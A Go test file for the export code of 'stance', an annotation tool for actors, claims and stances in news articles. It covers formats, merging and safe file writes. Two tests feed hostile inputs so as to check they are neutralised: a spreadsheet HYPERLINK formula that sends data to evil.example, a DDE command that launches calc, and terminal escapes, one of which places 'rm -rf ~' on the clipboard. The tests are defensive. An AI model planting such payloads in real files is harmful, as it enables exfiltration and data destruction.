package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"stance/annotate"
	"stance/annotate/export"
	"stance/model"
)

// newItem builds a corpus item on text: each annotation's quote, prefix
// and suffix are taken from the text at its span.
func newItem(name, text string, actors []model.Actor, claims []model.Claim, notes ...model.Annotation) export.Item {
	art := model.NewArticle(model.Meta{Title: name, Date: "2025-01-01"}, text, []model.Block{{Span: model.Span{Start: 0, End: len([]rune(text))}}})
	doc := annotate.New(art, name, "stance test")
	doc.Actors, doc.Claims = actors, claims
	for _, n := range notes {
		n.Quote, n.Prefix, n.Suffix = annotate.Anchor(art, n.Span)
		doc.Annotations = append(doc.Annotations, n)
	}
	doc.Sort()
	return export.Item{Name: name, Article: art, Doc: doc}
}

// spanOf returns the span of the first occurrence of phrase in text.
func spanOf(text, phrase string) model.Span {
	i := strings.Index(text, phrase)
	if i < 0 {
		panic(phrase + " is not in the text")
	}
	start := model.ByteOffsetToRune(text, i)
	return model.Span{Start: start, End: start + len([]rune(phrase))}
}

func mention(id, actorID string, s model.Span) model.Annotation {
	return model.Annotation{ID: id, Type: model.TypeActor, Span: s, Actor: actorID}
}

func claimNote(id, claimID, speaker string, s model.Span) model.Annotation {
	return model.Annotation{ID: id, Type: model.TypeClaim, Span: s, Claim: claimID, Actor: speaker}
}

func positionNote(id, actorID, claimID string, st model.Stance, s model.Span) model.Annotation {
	return model.Annotation{ID: id, Type: model.TypePosition, Span: s, Actor: actorID, Claim: claimID, Stance: st}
}

func TestParseFormat(t *testing.T) {
	for _, f := range export.Formats() {
		for _, name := range []string{string(f.Format), strings.ToUpper(string(f.Format))} {
			if got, err := export.ParseFormat(name); err != nil || got != f.Format {
				t.Errorf("ParseFormat(%q) = %q, %v", name, got, err)
			}
		}
	}
	_, err := export.ParseFormat("xlsx")
	if !errors.Is(err, export.ErrUnknownFormat) {
		t.Fatalf("ParseFormat(xlsx) error %v, want ErrUnknownFormat", err)
	}
	for _, f := range export.Formats() {
		if !strings.Contains(err.Error(), string(f.Format)) {
			t.Errorf("error %q does not list %s", err, f.Format)
		}
	}
}

func TestParseNetwork(t *testing.T) {
	tests := []struct {
		in   string
		want export.Network
		ok   bool
	}{
		{"", export.NetworkTwoMode, true},
		{"two-mode", export.NetworkTwoMode, true},
		{"actors", export.NetworkActors, true},
		{"Actors", export.NetworkActors, true},
		{"claims", "", false},
	}
	for _, tt := range tests {
		got, err := export.ParseNetwork(tt.in)
		if got != tt.want || (err == nil) != tt.ok {
			t.Errorf("ParseNetwork(%q) = %q, %v", tt.in, got, err)
		}
	}
}

func TestWriteRefusesMultiFileFormat(t *testing.T) {
	corpus := load(t, filepath.Join(corpusDir, seedName))
	var buf bytes.Buffer
	err := export.Write(&buf, export.Brat, corpus, export.Options{})
	if !errors.Is(err, export.ErrMultiFile) || buf.Len() > 0 {
		t.Errorf("Write(brat) = %v with %d bytes, want ErrMultiFile and nothing written", err, buf.Len())
	}
}

func TestDefaultName(t *testing.T) {
	seed := load(t, filepath.Join(corpusDir, seedName))
	two := append(slices.Clone(seed), seed...)
	tests := []struct {
		f      export.Format
		corpus []export.Item
		want   string
	}{
		{export.CSV, seed, "2025-08-15-alaska-summit.csv"},
		{export.W3C, seed, "2025-08-15-alaska-summit.jsonld"},
		{export.Markdown, two, "stance-corpus.md"},
		{export.Brat, seed, "2025-08-15-alaska-summit-brat"},
	}
	for _, tt := range tests {
		if got := export.DefaultName(tt.f, tt.corpus); got != tt.want {
			t.Errorf("DefaultName(%s) = %q, want %q", tt.f, got, tt.want)
		}
	}
}

func TestCheck(t *testing.T) {
	const text = "Anna said the plan works. Ben disagreed."
	actors := []model.Actor{{ID: "a-1", Name: "Anna", Kind: model.KindPerson}, {ID: "a-2", Name: "Ben", Kind: model.KindPerson}}
	claims := []model.Claim{{ID: "c-1", Text: "The plan works"}}
	good := newItem("good.txt", text, actors, claims,
		mention("n-1", "a-1", spanOf(text, "Anna")),
		claimNote("n-2", "c-1", "a-1", spanOf(text, "the plan works")))

	dangling := newItem("dangling.txt", text, actors, claims, mention("n-1", "a-9", spanOf(text, "Anna")))

	// The article gained a sentence at the start: the coded spans now
	// point at other text.
	stale := newItem("stale.txt", text, actors, claims, mention("n-1", "a-1", spanOf(text, "Anna")), mention("n-2", "a-2", spanOf(text, "Ben")))
	stale.Article = model.NewArticle(stale.Article.Meta, "Update: "+text, stale.Article.Blocks)

	// The article changed after the coded text: every quote is still at
	// its offsets, so the coding exports as it is.
	grown := newItem("grown.txt", text, actors, claims, mention("n-1", "a-1", spanOf(text, "Anna")))
	grown.Article = model.NewArticle(grown.Article.Meta, text+" Both left.", grown.Article.Blocks)

	tests := []struct {
		name   string
		corpus []export.Item
		want   string // "" for no error
		stale  bool
	}{
		{"good", []export.Item{good}, "", false},
		{"grown", []export.Item{grown}, "", false},
		{"empty", nil, "nothing to export", false},
		{"no document", []export.Item{{Name: "x.txt", Article: good.Article}}, "x.txt: no annotations", false},
		{"dangling", []export.Item{good, dangling}, "dangling.txt: n-1: actor a-9 is not in the actor registry", false},
		{"stale", []export.Item{stale}, `stale.txt: the article has changed since it was coded: n-1: "Anna" is no longer at [0, 4) (and 1 more); open it in stance to re-anchor the annotations`, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := export.Check(tt.corpus)
			if tt.want == "" {
				if err != nil {
					t.Fatalf("Check: %v", err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("Check error %v, want %q", err, tt.want)
			}
			var inv *export.InvalidError
			if errors.As(err, &inv) && inv.Stale != tt.stale {
				t.Errorf("Stale = %v, want %v", inv.Stale, tt.stale)
			}
			if _, err := export.Files(export.CSV, tt.corpus, export.Options{}); err == nil {
				t.Error("Files exported a corpus that does not check")
			}
		})
	}
}

func TestWriteFileNeverLeavesAPartialFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "out.csv")
	if err := os.WriteFile(path, []byte("old export\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	bad := load(t, filepath.Join(corpusDir, seedName))
	bad[0].Doc.Annotations[0].Actor = "a-missing"
	if err := export.WriteFile(path, export.CSV, bad, export.Options{}); err == nil {
		t.Fatal("WriteFile exported an invalid document")
	}
	if got, _ := os.ReadFile(path); string(got) != "old export\n" {
		t.Errorf("a failed export changed the file: %q", got)
	}

	good := load(t, filepath.Join(corpusDir, seedName))
	if err := export.WriteFile(path, export.CSV, good, export.Options{}); err != nil {
		t.Fatal(err)
	}
	var want bytes.Buffer
	if err := export.Write(&want, export.CSV, good, export.Options{}); err != nil {
		t.Fatal(err)
	}
	if got, _ := os.ReadFile(path); !bytes.Equal(got, want.Bytes()) {
		t.Error("WriteFile wrote something other than Write")
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 1 {
		t.Errorf("the folder holds %d files, want just the export (no temporary files)", len(entries))
	}
}

func TestWriteDir(t *testing.T) {
	corpus := load(t, corpusDir)
	parent := t.TempDir()

	dir := filepath.Join(parent, "new", "brat")
	paths, err := export.WriteDir(dir, export.Brat, corpus, export.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(paths) != 2+2*len(corpus) {
		t.Errorf("wrote %d files, want the two configuration files and two per article", len(paths))
	}
	for _, p := range paths {
		if _, err := os.Stat(p); err != nil {
			t.Error(err)
		}
	}
	if entries, _ := os.ReadDir(filepath.Dir(dir)); len(entries) != 1 {
		t.Errorf("the parent holds %d entries, want only the new directory", len(entries))
	}

	// A directory that is not empty is refused, and left as it was.
	full := filepath.Join(parent, "full")
	os.Mkdir(full, 0o755)
	os.WriteFile(filepath.Join(full, "mine.txt"), []byte("keep"), 0o644)
	_, err = export.WriteDir(full, export.Brat, corpus, export.Options{})
	if !errors.Is(err, export.ErrDirNotEmpty) || !strings.Contains(err.Error(), "--force") {
		t.Fatalf("WriteDir into a full directory: %v, want ErrDirNotEmpty", err)
	}
	if entries, _ := os.ReadDir(full); len(entries) != 1 {
		t.Errorf("a refused export wrote into the directory")
	}
	// With Force it writes beside what is there.
	if _, err := export.WriteDir(full, export.Brat, corpus, export.Options{Force: true}); err != nil {
		t.Fatal(err)
	}
	if got, _ := os.ReadFile(filepath.Join(full, "mine.txt")); string(got) != "keep" {
		t.Error("WriteDir --force touched a file it does not write")
	}
	// An empty directory needs no force.
	empty := filepath.Join(parent, "empty")
	os.Mkdir(empty, 0o755)
	if _, err := export.WriteDir(empty, export.CSV, corpus, export.Options{}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(empty, "stance-corpus.csv")); err != nil {
		t.Error(err)
	}
}

func TestBratNamesArticlesApart(t *testing.T) {
	const text = "Anna spoke."
	actors := []model.Actor{{ID: "a-1", Name: "Anna", Kind: model.KindPerson}}
	corpus := []export.Item{
		newItem("one/story.txt", text, actors, nil, mention("n-1", "a-1", spanOf(text, "Anna"))),
		newItem("two/story.md", text, actors, nil, mention("n-2", "a-1", spanOf(text, "Anna"))),
	}
	files, err := export.Files(export.Brat, corpus, export.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, f := range files {
		names = append(names, f.Name)
	}
	want := []string{"annotation.conf", "visual.conf", "story.txt", "story.ann", "story-2.txt", "story-2.ann"}
	if !slices.Equal(names, want) {
		t.Errorf("files %q, want %q", names, want)
	}
}

// mergeCorpus is three small articles in which the same people are coded
// under different spellings.
func mergeCorpus() []export.Item {
	const t1 = "Vladimir Putin said peace needs talks."
	const t2 = "PUTIN  said so again; Trump said peace needs talks too."
	const t3 = "Mr Putin, also called V. Putin, disagreed with Trump on whether peace needs talks."
	return []export.Item{
		newItem("a.txt", t1,
			[]model.Actor{{ID: "a-11", Name: "Vladimir Putin", Kind: model.KindPerson, Aliases: []string{"Putin"}}},
			[]model.Claim{{ID: "c-11", Text: "Peace needs talks"}},
			mention("n-11", "a-11", spanOf(t1, "Vladimir Putin")),
			claimNote("n-12", "c-11", "a-11", spanOf(t1, "peace needs talks")),
			positionNote("n-13", "a-11", "c-11", model.StanceSupport, spanOf(t1, "said peace needs talks"))),
		newItem("b.txt", t2,
			[]model.Actor{
				{ID: "a-21", Name: "putin", Kind: model.KindPerson},
				{ID: "a-22", Name: "Donald Trump", Kind: model.KindPerson, Aliases: []string{"Trump"}},
			},
			[]model.Claim{{ID: "c-21", Text: "peace  needs talks"}},
			mention("n-21", "a-21", spanOf(t2, "PUTIN")),
			mention("n-22", "a-22", spanOf(t2, "Trump")),
			positionNote("n-23", "a-21", "c-21", model.StanceSupport, spanOf(t2, "PUTIN  said so again")),
			positionNote("n-24", "a-22", "c-21", model.StanceSupport, spanOf(t2, "Trump said peace needs talks too"))),
		newItem("c.txt", t3,
			[]model.Actor{
				// One with Putin through the alias "Putin"; the
				// kind most of its members have wins.
				{ID: "a-31", Name: "Mr Putin", Kind: model.KindCountry, Aliases: []string{"V. Putin", "Putin"}},
				{ID: "a-32", Name: "Trump", Kind: model.KindPerson},
			},
			[]model.Claim{{ID: "c-31", Text: "PEACE NEEDS TALKS"}},
			mention("n-31", "a-31", spanOf(t3, "Mr Putin")),
			mention("n-32", "a-32", spanOf(t3, "Trump")),
			positionNote("n-33", "a-31", "c-31", model.StanceOppose, spanOf(t3, "disagreed")),
			positionNote("n-34", "a-32", "c-31", model.StanceNeutral, spanOf(t3, "Trump"))),
	}
}

// csvRecords reads a CSV export with encoding/csv: a map from column name
// to cell for each row under the header.
func csvRecords(t *testing.T, data []byte) []map[string]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil || len(rows) == 0 {
		t.Fatalf("encoding/csv cannot read the export: %v", err)
	}
	var out []map[string]string
	for _, r := range rows[1:] {
		rec := map[string]string{}
		for i, name := range rows[0] {
			rec[name] = r[i]
		}
		out = append(out, rec)
	}
	return out
}

func TestMergeAcrossArticles(t *testing.T) {
	corpus := mergeCorpus()
	s := export.Summarize(corpus)
	if len(s.Actors) != 2 || len(s.Claims) != 1 {
		t.Fatalf("%d actors and %d claims, want 2 and 1: %+v %+v", len(s.Actors), len(s.Claims), s.Actors, s.Claims)
	}
	putin := s.Actors[0]
	if putin.ID != "a-11" || putin.Name != "Vladimir Putin" || putin.Kind != "person" || putin.Mentions != 3 || putin.Articles != 3 {
		t.Errorf("merged Putin = %+v", putin)
	}
	if want := []string{"Putin", "Mr Putin", "V. Putin"}; !slices.Equal(putin.Aliases, want) {
		t.Errorf("aliases %q, want %q", putin.Aliases, want)
	}
	claim := s.Claims[0]
	if claim.Text != "Peace needs talks" || claim.Stances != (export.StanceCounts{Support: 3, Oppose: 1, Neutral: 1}) {
		t.Errorf("merged claim = %+v", claim)
	}

	// The CSV names each position's actor and claim by the merged name.
	for _, r := range csvRecords(t, render(t, export.CSV, corpus, export.Options{})) {
		if r["actor"] != "Vladimir Putin" && r["actor"] != "Donald Trump" || r["claim"] != "Peace needs talks" {
			t.Errorf("row %s: actor %q, claim %q", r["statement_id"], r["actor"], r["claim"])
		}
	}

	// In the two-mode network Putin's three positions are one edge.
	var g graphML
	if err := xml.Unmarshal(render(t, export.GraphML, corpus, export.Options{}), &g); err != nil {
		t.Fatal(err)
	}
	if len(g.Graph.Nodes) != 3 || len(g.Graph.Edges) != 2 {
		t.Fatalf("%d nodes and %d edges, want 3 and 2", len(g.Graph.Nodes), len(g.Graph.Edges))
	}
	e := g.Graph.Edges[0]
	if e.Source != "a-11" || e.get("stance") != "mixed" || e.get("support") != "2" || e.get("oppose") != "1" || e.get("weight") != "1" {
		t.Errorf("Putin's edge: %+v", e)
	}
}

func TestActorNetwork(t *testing.T) {
	const text = "A, B, C and D spoke about the plan and the tax."
	actors := []model.Actor{
		{ID: "a-a", Name: "A", Kind: model.KindPerson}, {ID: "a-b", Name: "B", Kind: model.KindPerson},
		{ID: "a-c", Name: "C", Kind: model.KindPerson}, {ID: "a-d", Name: "D", Kind: model.KindPerson},
	}
	claims := []model.Claim{{ID: "c-plan", Text: "the plan"}, {ID: "c-tax", Text: "the tax"}}
	plan, tax := spanOf(text, "the plan"), spanOf(text, "the tax")
	item := newItem("net.txt", text, actors, claims,
		positionNote("n-1", "a-a", "c-plan", model.StanceSupport, plan),
		positionNote("n-2", "a-b", "c-plan", model.StanceSupport, plan),
		positionNote("n-3", "a-c", "c-plan", model.StanceOppose, plan),
		positionNote("n-4", "a-d", "c-plan", model.StanceNeutral, plan),
		positionNote("n-5", "a-a", "c-tax", model.StanceOppose, tax),
		positionNote("n-6", "a-b", "c-tax", model.StanceSupport, tax),
	)
	var g graphML
	if err := xml.Unmarshal(render(t, export.GraphML, []export.Item{item}, export.Options{Network: export.NetworkActors}), &g); err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, e := range g.Graph.Edges {
		got[e.Source+"–"+e.Target] = e.get("relation") + " " + e.get("weight")
	}
	want := map[string]string{
		"a-a–a-b": "mixed 0", // agree on the plan, disagree on the tax
		"a-a–a-c": "conflict -1",
		"a-b–a-c": "conflict -1",
	}
	if len(got) != len(want) {
		t.Errorf("ties %v, want %v", got, want)
	}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("tie %s = %q, want %q", k, got[k], v)
		}
	}
	if len(g.Graph.Nodes) != 4 {
		t.Errorf("%d nodes, want every actor, D too", len(g.Graph.Nodes))
	}
}

func TestPositionWithoutSpan(t *testing.T) {
	const text = "Anna said the plan works."
	claimSpan := spanOf(text, "the plan works")
	item := newItem("empty.txt", text,
		[]model.Actor{{ID: "a-1", Name: "Anna", Kind: model.KindPerson}},
		[]model.Claim{{ID: "c-1", Text: "The plan works"}},
		mention("n-1", "a-1", spanOf(text, "Anna")),
		claimNote("n-2", "c-1", "a-1", claimSpan),
		positionNote("n-3", "a-1", "c-1", model.StanceSupport, model.Span{Start: 25, End: 25}))
	corpus := []export.Item{item}

	// In doccano it joins the actor's mention to the claim.
	var rec jsonlRecord
	if err := json.Unmarshal(render(t, export.JSONL, corpus, export.Options{}), &rec); err != nil {
		t.Fatal(err)
	}
	if len(rec.Relations) != 2 || rec.Relations[1].From != 1 || rec.Relations[1].To != 2 || rec.Relations[1].Type != "support" {
		t.Errorf("relations %+v, want Anna's mention to support the claim", rec.Relations)
	}
	// The other span formats show it on its claim's text.
	files, err := export.Files(export.Brat, corpus, export.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if ann := string(files[3].Data); !strings.Contains(ann, "\tPosition 10 24\tthe plan works\n") || !strings.Contains(ann, "E1\tPosition:T3 Holder:T1 Target:T2\n") {
		t.Errorf("brat:\n%s", ann)
	}
	// So does the CSV: a quote, not an empty cell.
	if r := csvRecords(t, render(t, export.CSV, corpus, export.Options{}))[0]; r["start"] != "10" || r["end"] != "24" || r["quote"] != "the plan works" {
		t.Errorf("CSV row %q, want [10, 24) \"the plan works\"", r)
	}
}

func TestOrphansAreLeftOutOfSpanFormats(t *testing.T) {
	const text = "Anna said the plan works."
	orphan := positionNote("n-3", "a-1", "c-1", model.StanceSupport, spanOf(text, "plan"))
	orphan.Orphan = true
	item := newItem("orphan.txt", text,
		[]model.Actor{{ID: "a-1", Name: "Anna", Kind: model.KindPerson}},
		[]model.Claim{{ID: "c-1", Text: "The plan works"}},
		mention("n-1", "a-1", spanOf(text, "Anna")), orphan)
	corpus := []export.Item{item}

	files, err := export.Files(export.Brat, corpus, export.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if ann := string(files[3].Data); strings.Contains(ann, "Position") {
		t.Errorf("brat shows an orphan:\n%s", ann)
	}
	var rec jsonlRecord
	if err := json.Unmarshal(render(t, export.JSONL, corpus, export.Options{}), &rec); err != nil {
		t.Fatal(err)
	}
	if len(rec.Entities) != 1 || rec.Annotations[1].Entity != 0 {
		t.Errorf("JSONL entities %+v, annotations %+v: want the orphan without an entity", rec.Entities, rec.Annotations)
	}
	rows := csvRecords(t, render(t, export.CSV, corpus, export.Options{}))
	if len(rows) != 1 || rows[0]["start"] != "" || rows[0]["quote"] != "plan" {
		t.Errorf("CSV %q: want the orphan's position with no offsets and its last quote", rows)
	}
}

// TestAwkwardNames puts the characters each format must escape into names,
// claims and notes, and reads every format back.
func TestAwkwardNames(t *testing.T) {
	const text = "Ana \"A|B\" <Smith> & Co said x*y_z [1] \\ #tag."
	name := `Ana "A|B" <Smith> & Co`
	claimText := "x*y_z [1] \\ #tag\nsecond line"
	item := newItem("awkward.txt", text,
		[]model.Actor{{ID: "a-1", Name: name, Kind: model.KindOrganization}},
		[]model.Claim{{ID: "c-1", Text: claimText}},
		mention("n-1", "a-1", spanOf(text, name)),
		positionNote("n-2", "a-1", "c-1", model.StanceOppose, spanOf(text, "x*y_z [1] \\ #tag")))
	item.Doc.Annotations[1].Note = "tab\there, \"quotes\", | pipe"
	corpus := []export.Item{item}

	var g graphML
	if err := xml.Unmarshal(render(t, export.GraphML, corpus, export.Options{}), &g); err != nil {
		t.Fatal(err)
	}
	if got := g.Graph.Nodes[0].get("label"); got != name {
		t.Errorf("GraphML label %q, want %q", got, name)
	}
	// Merged names and claims have their spaces collapsed.
	oneLine := strings.ReplaceAll(claimText, "\n", " ")
	if got := g.Graph.Nodes[1].get("label"); got != oneLine {
		t.Errorf("GraphML claim %q, want %q", got, oneLine)
	}

	dot := string(render(t, export.DOT, corpus, export.Options{}))
	if !strings.Contains(dot, `label="Ana \"A|B\" <Smith> & Co"`) || !strings.Contains(dot, `\\ #tag second line`) {
		t.Errorf("DOT quoting:\n%s", dot)
	}

	if r := csvRecords(t, render(t, export.CSV, corpus, export.Options{}))[0]; r["actor"] != name || r["claim"] != oneLine || r["note"] != item.Doc.Annotations[1].Note {
		t.Errorf("CSV %q", r)
	}

	md := string(render(t, export.Markdown, corpus, export.Options{}))
	want := `| Ana "A\|B" \<Smith\> & Co | organization | 1 | 1 | — |`
	if !strings.Contains(md, want) {
		t.Errorf("Markdown lacks the escaped row %q:\n%s", want, md)
	}

	files, err := export.Files(export.Brat, corpus, export.Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := parseStandoff(t, string(files[3].Data))
	if len(s.textBound) != 2 {
		t.Errorf("brat: %d text-bound annotations, want 2", len(s.textBound))
	}
}

func TestSummarize(t *testing.T) {
	s := export.Summarize(load(t, corpusDir))
	if s.Articles != 3 || s.Annotations.Total != s.Annotations.Actor+s.Annotations.Claim+s.Annotations.Position {
		t.Errorf("summary %+v", s)
	}
	if s.Stances.Total() != s.Annotations.Position {
		t.Errorf("stances %+v do not add up to %d positions", s.Stances, s.Annotations.Position)
	}
	for i := 1; i < len(s.Actors); i++ {
		if s.Actors[i].Mentions > s.Actors[i-1].Mentions {
			t.Errorf("actors not sorted by mentions: %s (%d) after %s (%d)", s.Actors[i].Name, s.Actors[i].Mentions, s.Actors[i-1].Name, s.Actors[i-1].Mentions)
		}
	}
	top := s.Claims[0]
	if top.Text != "Data should be shared openly and quickly" || top.Positions != 5 || top.Articles != 2 {
		t.Errorf("top claim %+v, want the shared claim with 5 positions in 2 articles", top)
	}
	data, err := json.Marshal(s)
	if err != nil || !strings.Contains(string(data), `"stances":{"support":`) {
		t.Errorf("JSON %s, %v", data, err)
	}
}

func TestBratSkipsSpansOfLineBreaksOnly(t *testing.T) {
	const text = "Anna spoke.\n\nBen agreed."
	item := newItem("breaks.txt", text,
		[]model.Actor{{ID: "a-1", Name: "Anna", Kind: model.KindPerson}},
		[]model.Claim{{ID: "c-1", Text: "A pause"}},
		mention("n-1", "a-1", spanOf(text, "Anna")),
		claimNote("n-2", "c-1", "a-1", spanOf(text, "\n\n")),
		positionNote("n-3", "a-1", "c-1", model.StanceSupport, spanOf(text, "\n\n")))
	files, err := export.Files(export.Brat, []export.Item{item}, export.Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := parseStandoff(t, string(files[3].Data))
	if len(s.textBound) != 1 || len(s.lines) != 3 {
		t.Errorf("want only Anna's mention (T, A, #):\n%s", files[3].Data)
	}
}

// TestCSVNeutralisesFormulas: a cell that a spreadsheet would run as a
// formula starts with a ' (OWASP's advice on CSV injection), and no cell
// holds what could act on a terminal.
func TestCSVNeutralisesFormulas(t *testing.T) {
	const text = "Anna said -1 is enough. Bo agreed."
	item := newItem("formula.txt", text,
		[]model.Actor{{ID: "a-1", Name: `=HYPERLINK("http://evil.example/?"&A1,"Anna")`, Kind: model.KindPerson}},
		[]model.Claim{{ID: "c-1", Text: "+cmd|' /C calc'!A0"}},
		mention("n-1", "a-1", spanOf(text, "Anna")),
		positionNote("n-2", "a-1", "c-1", model.StanceSupport, spanOf(text, "-1 is enough")))
	item.Doc.Annotations[1].Note = "@SUM(1+1)\x1b]52;c;cm0gLXJmIH4=\x07"
	item.Doc.Annotations[1].Author = "\tKim"
	r := csvRecords(t, render(t, export.CSV, []export.Item{item}, export.Options{}))[0]
	want := map[string]string{
		"actor":  `'=HYPERLINK("http://evil.example/?"&A1,"Anna")`,
		"claim":  "'+cmd|' /C calc'!A0",
		"quote":  "'-1 is enough",
		"note":   "'@SUM(1+1)",
		"author": "'\tKim",
		"title":  "formula.txt",
	}
	for col, w := range want {
		if r[col] != w {
			t.Errorf("%s = %q, want %q", col, r[col], w)
		}
	}
}

// TestTextExportsDropTerminalEscapes: a name, claim or note with terminal
// escapes, control characters or a bidi override (which validate warns
// of) reaches no text format with them, and Graphviz still draws the
// DOT into well-formed SVG.
func TestTextExportsDropTerminalEscapes(t *testing.T) {
	const text = "Anna said the plan works."
	item := newItem("hostile.txt", text,
		[]model.Actor{{ID: "a-1", Name: "An\x1b[2J\x1b[Hna\u202e", Kind: model.KindPerson, Aliases: []string{"A\x01nna"}}},
		[]model.Claim{{ID: "c-1", Text: "The plan\x01 works\u009b31m"}},
		mention("n-1", "a-1", spanOf(text, "Anna")),
		claimNote("n-2", "c-1", "a-1", spanOf(text, "the plan works")),
		positionNote("n-3", "a-1", "c-1", model.StanceSupport, spanOf(text, "the plan works")))
	item.Doc.Annotations[2].Note = "see\x1b]8;;http://evil.example\x1b\\ this\x07"
	corpus := []export.Item{item}
	for _, f := range []export.Format{export.CSV, export.Markdown, export.DOT, export.GraphML} {
		out := string(render(t, f, corpus, export.Options{}))
		for i, r := range out {
			if r < 0x20 && r != '\n' && r != '\r' && r != '\t' || r >= 0x7f && r <= 0x9f || model.IsBidiControl(r) {
				t.Errorf("%s holds %U at byte %d:\n%q", f, r, i, out)
				break
			}
		}
		if !strings.Contains(out, "Anna") || !strings.Contains(out, "The plan works") {
			t.Errorf("%s lost the names themselves:\n%s", f, out)
		}
	}
	files, err := export.Files(export.Brat, corpus, export.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if ann := string(files[3].Data); strings.ContainsAny(ann, "\x1b\x01\u202e\u009b\a") {
		t.Errorf("brat notes hold controls:\n%q", ann)
	}

	dot, err := exec.LookPath("dot")
	if err != nil {
		t.Skip("Graphviz (dot) is not installed")
	}
	cmd := exec.Command(dot, "-Tsvg")
	cmd.Stdin = bytes.NewReader(render(t, export.DOT, corpus, export.Options{}))
	svg, err := cmd.Output()
	if err != nil {
		t.Fatalf("dot -Tsvg: %v", err)
	}
	dec := xml.NewDecoder(bytes.NewReader(svg))
	for {
		if _, err := dec.Token(); err == io.EOF {
			break
		} else if err != nil {
			t.Fatalf("the SVG that dot draws is not well-formed XML: %v", err)
		}
	}
}

// TestCSVNamesTheArticle: each row says which article it is from — its
// title, date, publication and address as well as its path — so that a
// corpus's rows can be told apart and cited.
func TestCSVNamesTheArticle(t *testing.T) {
	const text = "Anna said the plan works."
	item := newItem("news/plan.txt", text,
		[]model.Actor{{ID: "a-1", Name: "Anna", Kind: model.KindPerson}},
		[]model.Claim{{ID: "c-1", Text: "The plan works"}},
		positionNote("n-1", "a-1", "c-1", model.StanceSupport, spanOf(text, "the plan works")))
	item.Article.Meta = model.Meta{Title: "The plan", Date: "2025-03-01", Source: "Daily Planet", URL: "https://example.org/plan"}
	item.Doc.Article.Title, item.Doc.Article.Date = "", ""
	// A web page's annotations record the address it was fetched from.
	web := newItem("https://example.org/web", text,
		[]model.Actor{{ID: "a-1", Name: "Anna", Kind: model.KindPerson}},
		[]model.Claim{{ID: "c-1", Text: "The plan works"}},
		positionNote("n-2", "a-1", "c-1", model.StanceSupport, spanOf(text, "the plan works")))
	web.Doc.Article.URL = "https://example.org/web"
	rows := csvRecords(t, render(t, export.CSV, []export.Item{item, web}, export.Options{}))
	for i, want := range []map[string]string{
		{"title": "The plan", "date": "2025-03-01", "publication": "Daily Planet", "url": "https://example.org/plan", "source": "news/plan.txt"},
		{"title": "https://example.org/web", "publication": "", "url": "https://example.org/web"},
	} {
		for col, w := range want {
			if rows[i][col] != w {
				t.Errorf("row %d: %s = %q, want %q", i+1, col, rows[i][col], w)
			}
		}
	}
}
